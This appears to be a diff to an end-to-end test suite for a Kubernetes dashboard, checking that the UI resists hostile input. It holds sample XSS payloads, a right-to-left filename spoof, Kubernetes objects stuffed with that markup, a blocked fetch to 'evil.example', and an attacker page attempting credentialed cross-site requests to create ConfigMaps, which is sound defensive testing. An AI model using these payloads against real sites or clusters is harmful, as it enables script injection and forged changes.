@@ -17,12 +17,14 @@ pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.xdist_group("dashbo
 MARKUP = "<img src=x onerror=\"document.title='taken'\"><script>document.title='taken'</script>"
 TURNED = "\u202egnp.exe"
 CONTROLS = "a\x1b[2Jb\x07c\x00d".replace("\x00", "")
-LARGE = 1_000_000
-TAKEN = """
-  document.title.includes('taken') || document.querySelectorAll('main img, main script, main iframe').length
-  || [...document.querySelectorAll('*')].some((each) => each.getAttributeNames().some((name) => /^on/.test(name)))
-  || [...document.querySelectorAll('a[href]')].some((each) => !/^(#|https?:)/.test(each.getAttribute('href')))
-"""
+LARGE = 700_000
+TAKEN = """(() => {
+  const all = (selector) => [...document.querySelectorAll(selector)];
+  const acts = (each) => each.getAttributeNames().some((name) => /^on/.test(name));
+  const leads = (each) => !/^(#|https?:)/.test(each.getAttribute('href'));
+  return document.title.includes('taken') || all('main img, main script, main iframe').length
+    || all('*').some(acts) || all('a[href]').some(leads);
+})()"""
 UNSEEN = r"/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test"
 
 
@@ -40,9 +42,10 @@ def hostiles(cluster: Cluster) -> None:
     """Objects that were written by somebody who means no good."""
     schema = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}
     names = {"plural": "traps", "kind": "Trap"}
+    column = {"name": MARKUP, "type": "string", "jsonPath": ".spec.text", "description": MARKUP}
     version = {
         "name": "v1", "served": True, "storage": True, "schema": {"openAPIV3Schema": schema},
-        "additionalPrinterColumns": [{"name": MARKUP, "type": "string", "jsonPath": ".spec.text", "description": MARKUP}],
+        "additionalPrinterColumns": [column],
     }  # fmt: skip
     cluster.apply(
         hostile("ConfigMap", data={"text": MARKUP, "lines": f"one\n{MARKUP}\n", "turned": TURNED}),
@@ -66,7 +69,8 @@ def hostiles(cluster: Cluster) -> None:
         },
     )
     cluster.kubectl(
-        "wait", "crd", "traps.example.com", "--for=jsonpath={.status.acceptedNames.kind}=Trap", "--timeout=60s"
+        "wait", "crd", "traps.example.com", "--for=jsonpath={.status.acceptedNames.kind}=Trap",
+        "--timeout=60s",
     )  # fmt: skip
     condition = {"type": MARKUP, "status": MARKUP, "reason": MARKUP, "message": TURNED}
     owner = {"apiVersion": "v1", "kind": MARKUP, "name": MARKUP, "uid": "u", "controller": True}
@@ -135,9 +139,16 @@ def test_a_policy_refuses_what_a_page_would_never_do(page: Page) -> None:
         "document.createElement('iframe').srcdoc = '<b>x</b>'",
         "setTimeout('1')",
     ):
-        thrown = page.run(
-            f"(() => {{ try {{ {attempt}; return ''; }} catch (error) {{ return String(error); }} }})()"
+        script = (
+            f"(() => {{ try {{ {attempt}; return ''; }}"
+            " catch (error) { return String(error); } })()"
         )
+        thrown = page.call(
+            "Runtime.evaluate",
+            expression=script,
+            returnByValue=True,
+            allowUnsafeEvalBlockedByCSP=False,  # as scripts of the page are run
+        )["result"]["value"]
         assert "TrustedHTML" in thrown or "TrustedScript" in thrown or "Error" in thrown, attempt
     failed = "(error) => String(error)"
     assert "TypeError" in page.run(f"fetch('https://evil.example/').then(() => 'sent', {failed})")
@@ -172,9 +183,8 @@ def test_huge_objects_do_not_stop_the_page(cluster: Cluster, page: Page) -> None
     assert page.run("document.querySelector('#yaml').innerText.length") < 100_000
     go(page, "#/object/-/v1/configmaps/default/huge/edit")
     page.until(f"document.querySelector('.editor')?.value.length > {LARGE}")
-    page.run(
-        "document.querySelector('.editor').value = document.querySelector('.editor').value.replace('line 7\\n', 'line seven\\n')"
-    )
+    value = "document.querySelector('.editor').value"
+    page.run(f"{value} = {value}.replace('line 7\\n', 'line seven\\n')")
     click(page, "Compare", "main")
     shows(page, "line seven", "#difference")
     assert page.run("document.querySelector('#difference').innerText.length") < 100_000
@@ -186,12 +196,13 @@ EVIL = """<!doctype html><title>evil</title><script>
   const target = new URLSearchParams(location.search).get('target');
   const body = (name) => JSON.stringify({apiVersion: 'v1', kind: 'ConfigMap', metadata: {name}});
   const path = target + '/api/v1/namespaces/default/configmaps';
-  const wait = (promise) => promise.then((answer) => answer.type + answer.status, (error) => String(error));
+  const send = (options) => fetch(path, {method: 'POST', credentials: 'include', ...options})
+    .then((answer) => answer.type + answer.status, (error) => String(error));
   window.attempts = Promise.all([
-    wait(fetch(path, {method: 'POST', mode: 'no-cors', credentials: 'include', body: new Blob([body('forged-1')])})),
-    wait(fetch(path, {method: 'POST', mode: 'no-cors', credentials: 'include', body: body('forged-2')})),
-    wait(fetch(path, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json'}, body: body('forged-3')})),
-    wait(fetch(path, {credentials: 'include'})),
+    send({mode: 'no-cors', body: new Blob([body('forged-1')])}),
+    send({mode: 'no-cors', body: body('forged-2')}),
+    send({headers: {'Content-Type': 'application/json'}, body: body('forged-3')}),
+    send({method: 'GET'}),
     new Promise((resolve) => {
       const socket = new WebSocket(path.replace('http', 'ws') + '?watch=1');
       socket.onopen = () => resolve('open');
@@ -200,7 +211,13 @@ EVIL = """<!doctype html><title>evil</title><script>
     new Promise((resolve) => {
       const frame = document.createElement('iframe');
       frame.src = target + '/ui/';
-      frame.onload = () => { try { resolve(frame.contentDocument ? 'readable' : 'closed'); } catch { resolve('closed'); } };
+      frame.onload = () => {
+        try {
+          resolve(frame.contentDocument ? 'readable' : 'closed');
+        } catch {
+          resolve('closed');
+        }
+      };
       document.documentElement.append(frame);
     }),
   ]);
